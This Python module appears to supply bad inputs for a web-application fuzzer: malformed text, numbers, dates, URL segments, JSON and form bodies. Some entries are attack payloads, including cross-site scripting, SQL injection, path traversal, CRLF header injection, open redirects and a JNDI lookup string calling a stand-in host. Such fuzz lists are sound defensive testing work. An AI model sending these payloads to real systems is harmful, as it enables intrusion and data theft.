"""Bad values the fuzzer sends: long, unicode/RTL/zero-width, control characters, markup,
numbers and dates that cannot be, and JSON bodies of the wrong shape."""

from __future__ import annotations

#: Markup that must never come back unescaped (the check looks for these beginnings).
MARKERS = ("<svg data-fz", "<script>fz(")

TEXT = [
    "",
    "   ",
    "a" * 300,
    "a" * 5_000,
    "9" * 40_000,
    "Ünïcødé 日本語 🙂",
    "\u202eevil\u202c.txt",
    "مرحبا بالعالم",
    "ሰላም",
    "Привіт",
    "zero\u200bwidth\u200d\ufeff",
    "\u0000",
    "x\x00y",
    "\r\n",
    "a\rb\nc",
    "\t/evil.example/",
    "\x1b[31mred",
    "\x7f\x85\u2028\u2029",
    "\ud800",  # a lone surrogate: cannot even be encoded as UTF-8
    '"><svg data-fz=1 onload=alert(1)>',
    "<script>fz(1)</script>",
    "'><script>fz(2)</script>",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "%00",
    "%0d%0aSet-Cookie:%20x=1",
    "//evil.example/",
    "/\\evil.example",
    "/\n",
    "/\r\nSet-Cookie: x=1",
    "/\t/evil.example/",
    "/%09/evil.example/",
    "/%0d%0a",
    "https://evil.example/",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example/a}",
]
NUMBERS = [
    "-1",
    "0",
    "00000",
    "1e309",
    "NaN",
    "-0",
    "1,5",
    "1.000.000,00",
    "999999999999999999999999999999",
    "١٢٣٤٥",  # Arabic-Indic digits
    "１２３４５",  # full-width digits
    "12345\u200b",
]
DATES = [
    "31-02-2024",
    "29-02-2023",
    "00-00-0000",
    "99-99-9999",
    "01-13-2020",
    "2024-02-31",
    "1-1-1",
    "31/12/9999",
    "01-01-0001",
    "32-01-2026",
]
VALUES = TEXT + NUMBERS + DATES

#: Bad URL path segments (sent %-encoded; a few are already %-encoded on purpose).
SEGMENTS = [
    "x",
    "a" * 2_000,
    "Ünïcødé",
    "%ff%fe",
    "%00",
    "%0d%0a",
    "%09",
    "..",
    "...%2f..%2f",
    '"><svg data-fz=2>',
    "<script>fz(3)</script>",
    "' OR 1=1 --",
    "\u202e",
    "-1",
    "0",
    "99999999999999999999",
]

#: Raw JSON bodies of every wrong shape.
JSON_BODIES = [
    b"[1,2]",
    b'"x"',
    b"5",
    b"null",
    b"true",
    b"{",
    b"",
    b"\xff\xfe",
    b"[" * 5_000 + b"]" * 5_000,
    b'{"target": {"a": 1}, "page": [1]}',
    b'{"target": "' + b"x" * 3_000 + b'"}',
    b'{"target": "<script>fz(4)</script>", "page": "\\"><svg data-fz=4>"}',
    b'{"target": "\\u0000\\r\\n", "page": "\\ud800"}',
]

#: Other raw bodies a form route may get: broken UTF-8, a multipart upload, a huge form.
RAW_BODIES = [
    (b"csrf_token=%ff%fe&x=%ff", "application/x-www-form-urlencoded"),
    (b"\xff\xfe\xfd", "application/x-www-form-urlencoded"),
    (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="../x.txt"\r\n'
        b"Content-Type: text/plain\r\n\r\nhello\r\n--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    (b"--b\r\nbroken", "multipart/form-data; boundary=b"),
    (b"x=" + b"a" * 70_000, "application/x-www-form-urlencoded"),
    (b"<xml/>", "text/xml"),
]
